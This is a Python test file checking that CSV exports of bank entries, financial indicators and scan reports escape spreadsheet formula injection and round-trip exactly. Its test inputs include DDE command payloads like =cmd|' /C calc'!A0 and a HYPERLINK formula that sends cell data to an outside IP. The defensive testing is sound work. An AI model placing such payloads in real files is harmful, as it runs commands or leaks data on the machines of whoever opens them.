"""Issue 16, item 9: text from outside never reaches a spreadsheet as a formula.

Bank files, financial indicators, transparency figures and scan reports are written as CSV;
a cell that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return gets a ``'``
before it, and a bank file's notes come back unchanged through an export and an import.
"""

from __future__ import annotations

import csv
import io
import json
from datetime import UTC, datetime
from pathlib import Path

from hypothesis import given
from hypothesis import strategies as st

from keepdown.banks import formats
from keepdown.banks.records import EntryRecord
from keepdown.finance.model import Indicator
from keepdown.finance.stix_export import render_indicators_csv
from keepdown.hashing.types import SignalType
from keepdown.scan.report import Report
from keepdown.spreadsheet import plain_cell, safe_cell

ATTACKS = [
    "=cmd|' /C calc'!A0",
    "+SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    '=HYPERLINK("http://203.0.113.9/?"&A1,"click")',
]


def cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]


def assert_no_formula(text: str) -> None:
    for cell in cells(text):
        assert not cell or cell[0] not in "=+-@\t\r", cell


@given(st.text())
def test_the_escape_is_undone_exactly(text: str) -> None:
    escaped = safe_cell(text)
    assert plain_cell(escaped) == text
    assert not escaped or escaped[0] not in "=+-@\t\r"


def test_numbers_are_left_alone() -> None:
    assert safe_cell(-3) == -3
    assert safe_cell(2.5) == 2.5
    assert safe_cell("'plain") == "'plain"


def test_bank_csv_escapes_and_round_trips_every_note() -> None:
    records = [
        EntryRecord(
            signal_type=SignalType.MD5,
            value=f"{i + 1:032x}",
            source_label=attack,
            source_id=attack,
            notes=attack,
        )
        for i, attack in enumerate([*ATTACKS, "'=already quoted", "''", "'"])
    ]
    out = io.StringIO()
    formats.write_entries(records, out, "csv")
    assert_no_formula(out.getvalue())
    back = list(formats.read_entries(io.StringIO(out.getvalue(), newline=""), "csv"))
    assert [(r.notes, r.source_id, r.source_label) for r in back] == [  # type: ignore[union-attr]
        (r.notes, r.source_id, r.source_label) for r in records
    ]


def test_financial_indicators_csv_escapes_what_pages_said() -> None:
    now = datetime(2026, 2, 1, tzinfo=UTC)
    indicators = [
        Indicator(
            id=i,
            type="email",
            value=attack,
            detail=attack,
            pages=("http://127.0.0.1/p",),
            providers=(attack,),
            first_seen=now,
            last_seen=now,
            confirmed_sightings=1,
            confirmed_pages=1,
        )
        for i, attack in enumerate(ATTACKS)
    ]
    assert_no_formula(render_indicators_csv(indicators, tlp="amber"))


def test_scan_report_csv_escapes_file_names(tmp_path: Path) -> None:
    journal = tmp_path / "scan.jsonl"
    report = Report(journal, fresh=True)
    report.close()
    rows = [{"path": attack, "error": attack} for attack in ATTACKS]
    journal.write_text("".join(json.dumps(row) + "\n" for row in rows))
    assert_no_formula(Report(journal).close().read_text())
